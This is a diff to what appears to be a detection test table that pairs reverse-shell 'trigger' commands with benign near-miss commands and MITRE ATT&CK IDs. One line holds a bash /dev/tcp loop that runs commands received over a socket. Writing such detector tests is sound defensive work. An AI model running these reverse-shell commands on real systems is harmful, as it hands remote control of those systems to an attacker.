@@ -108,6 +108,11 @@ ROWS = [
         near="@PY@ @S@/actor.py pty-relay-unix",
         why="a shell on a pty relayed to a TCP socket by its parent (pty.spawn after dup2, from "
             "a script file) vs the same relay to a unix socket (a web terminal service)"),
+    Row("reverse-shell", "TA0002 T1059.004",
+        trigger="@PY@ @S@/actor.py pipe-relay-shell @PORT@",
+        near="@PY@ @S@/actor.py pipe-relay-script @PORT@",
+        why="a shell taking commands from pipes its parent relays to a TCP socket (ncat -e, a Go "
+            "implant) vs a shell given a script by a parent sending its output on (a CI runner)"),
     Row("shell-dev-tcp-command-loop", "TA0002 T1059.004",
         # the listener sends "exit" after 2.5 s: the loop runs it and ends
         trigger="bash -c 'exec 5<>/dev/tcp/127.0.0.1/@PORT@; cat <&5 | while read line; do $line 2>&5 >&5; done'",
